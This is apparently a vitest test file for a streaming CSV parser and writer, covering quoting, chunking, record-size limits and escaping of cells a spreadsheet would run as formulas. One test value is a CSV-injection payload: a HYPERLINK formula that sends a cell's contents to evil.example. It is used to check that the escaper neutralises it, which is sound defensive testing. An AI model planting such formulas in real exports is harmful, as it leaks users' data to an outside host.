import { describe, expect, it } from 'vitest';
import { csvLine, escapeFormula, unescapeFormula } from './csv-cells.ts';
import { CsvSyntaxError, readCsvRecords, type CsvRecord } from './csv.ts';

async function* chunksOf(text: string, size: number): AsyncGenerator<string> {
  for (let i = 0; i < text.length; i += size) yield text.slice(i, i + size);
}

async function read(text: string, chunkSize = text.length || 1, maxRecordChars?: number): Promise<CsvRecord[]> {
  const records: CsvRecord[] = [];
  for await (const record of readCsvRecords(
    chunksOf(text, chunkSize),
    maxRecordChars === undefined ? {} : { maxRecordChars },
  ))
    records.push(record);
  return records;
}

describe('reading', () => {
  it('splits records and fields, with LF or CRLF, and numbers the lines', async () => {
    expect(await read('a,b\r\n1,2\n3,\n')).toEqual([
      { line: 1, fields: ['a', 'b'] },
      { line: 2, fields: ['1', '2'] },
      { line: 3, fields: ['3', ''] },
    ]);
  });

  it('reads quoted fields with commas, doubled quotes and line breaks; lines count from where a record starts', async () => {
    const records = await read('name,description\n"Odin, The Project","say ""hi""\nand bye"\nnext,x');
    expect(records).toEqual([
      { line: 1, fields: ['name', 'description'] },
      { line: 2, fields: ['Odin, The Project', 'say "hi"\nand bye'] },
      { line: 4, fields: ['next', 'x'] },
    ]);
  });

  it('gives the same records whatever the chunk boundaries (even inside "" and CRLF)', async () => {
    const text = 'a,"b ""q"" c"\r\n"x\r\ny",z\r\n,\r\n';
    const whole = await read(text);
    for (const size of [1, 2, 3, 5, 7]) expect(await read(text, size)).toEqual(whole);
    expect(whole.map((r) => r.fields)).toEqual([
      ['a', 'b "q" c'],
      ['x\r\ny', 'z'],
      ['', ''],
    ]);
  });

  it('counts a CRLF inside a quoted field as one line, for that record and the ones after it', async () => {
    expect((await read('"a\r\nb\r\nc",1\r\nnext,2\r\n\r\nlast,3')).map((r) => r.line)).toEqual([1, 4, 6]);
  });

  it('skips blank lines and a byte-order mark, and needs no final line break', async () => {
    expect((await read('\ufeffa\n\n\nb')).map((r) => [r.line, r.fields])).toEqual([
      [1, ['a']],
      [4, ['b']],
    ]);
  });

  it('an unclosed quote is a syntax error naming the line the record starts on', async () => {
    const error = await read('a\n\n"open\nstill open').catch((e: unknown) => e);
    expect(error).toBeInstanceOf(CsvSyntaxError);
    expect(error).toMatchObject({ line: 3, message: 'a quoted field is not closed before the end of the file' });
  });

  it('a record over the limit comes out empty and marked, and the following records are intact', async () => {
    const records = await read(`a,b\n${'x'.repeat(100)},"${'y'.repeat(50)}"\nc,d\n`, 16, 64);
    expect(records).toEqual([
      { line: 1, fields: ['a', 'b'] },
      { line: 2, fields: [], oversized: true },
      { line: 3, fields: ['c', 'd'] },
    ]);
  });

  it('a line over the limit is not collected, yet its quotes, commas and line breaks still count', async () => {
    // A quoted cell opened past the limit runs on to line 3: the record after it starts on line 4.
    const long = `${'x'.repeat(80)},"${'y,'.repeat(40)}""q""\n${'z'.repeat(30)}",tail`;
    const text = `a,b\n${long}\n"c\nc",d\n`;
    for (const size of [1, 7, 1000]) {
      expect(await read(text, size, 64)).toEqual([
        { line: 1, fields: ['a', 'b'] },
        { line: 2, fields: [], oversized: true },
        { line: 4, fields: ['c\nc', 'd'] },
      ]);
    }
  });

  it('cutting long lines never changes the records around them, whatever the quotes and commas in them', async () => {
    const pieces = ['a', 'bb', 'x'.repeat(30), ',', '"', '""', '\n', '\r\n', ' '];
    let seed = 7;
    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    const readAll = async (text: string, chunkSize: number, limit: number) => {
      const records: CsvRecord[] = [];
      try {
        for await (const record of readCsvRecords(chunksOf(text, chunkSize), { maxRecordChars: limit }))
          records.push(record);
        return { records };
      } catch (error) {
        return { records, error: error as CsvSyntaxError };
      }
    };
    let compared = 0;
    for (let round = 0; round < 200; round++) {
      let text = '';
      while (text.length < 400) text += pieces[Math.floor(random() * pieces.length)];
      const whole = await readAll(text, 1000, 1 << 20);
      const cut = await readAll(text, 13, 40);
      cut.records.forEach((record, i) => {
        expect(record.line).toBe(whole.records[i]!.line);
        if (!record.oversized) expect(record.fields).toEqual(whole.records[i]!.fields);
        else compared++;
      });
      if (whole.error) {
        // (Records read before an error may not come out: the file is refused whole.)
        expect(cut.error?.line).toBeLessThanOrEqual(whole.error.line);
      } else if (cut.error) {
        // A quote open over many lines stops the cut read at four times the limit, at that record.
        expect(cut.error.message).toContain('runs on');
        expect(whole.records.find((r) => r.line === cut.error!.line)!.fields.join('').length).toBeGreaterThan(40);
      } else {
        expect(cut.records).toHaveLength(whole.records.length);
      }
    }
    // Enough long lines were cut for the comparison to mean something.
    expect(compared).toBeGreaterThan(100);
  });

  it('a quoted cell that runs on over many short lines past four times the limit refuses the file', async () => {
    const error = await read(`a\n"${'y\n'.repeat(200)}"\n`, 16, 64).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(CsvSyntaxError);
    expect(error).toMatchObject({ line: 2 });
  });
});

describe('writing', () => {
  it('quotes only the fields that need it and reads back the same', async () => {
    const fields = ['plain', 'with, comma', 'with "quotes"', 'two\nlines', ''];
    const line = csvLine(fields);
    expect(line).toBe('plain,"with, comma","with ""quotes""","two\nlines",\n');
    expect((await read(line))[0]!.fields).toEqual(fields);
  });
});

describe('cells a spreadsheet would run as a formula', () => {
  const formulaStart = /^[=+\-@\t\r]/;

  it('are written with a leading quote, and so is a cell that starts with a quote; other cells are untouched', () => {
    const values = [
      '=1+1',
      '+33 1',
      '-1',
      '@SUM(A1)',
      '\tx',
      '\rx',
      "'quoted",
      "''",
      'plain',
      '',
      'a=b',
      ' =1',
      '2024-05-01T12:00:00.000Z',
      'true',
    ];
    expect(values.map(escapeFormula)).toEqual([
      "'=1+1",
      "'+33 1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      "''quoted",
      "'''",
      'plain',
      '',
      'a=b',
      ' =1',
      '2024-05-01T12:00:00.000Z',
      'true',
    ]);
  });

  it('never start a written cell, and read back into exactly the values written', async () => {
    const values = [
      '=HYPERLINK("https://evil.example/?leak="&B2,"More info")',
      '+1',
      '-1',
      '@x',
      '\t=1',
      '\r=1',
      "'",
      "'=1",
      "''x",
      'plain',
      '',
      'x=1',
    ];
    const [record] = await read(csvLine(values));
    expect(record!.fields.filter((cell) => formulaStart.test(cell))).toEqual([]);
    expect(record!.fields.map(unescapeFormula)).toEqual(values);
  });

  it('unescaping takes exactly one leading quote off, and nothing else', () => {
    expect(["'=1", "''x", "'", 'plain', "it's", ''].map(unescapeFormula)).toEqual([
      '=1',
      "'x",
      '',
      'plain',
      "it's",
      '',
    ]);
  });
});
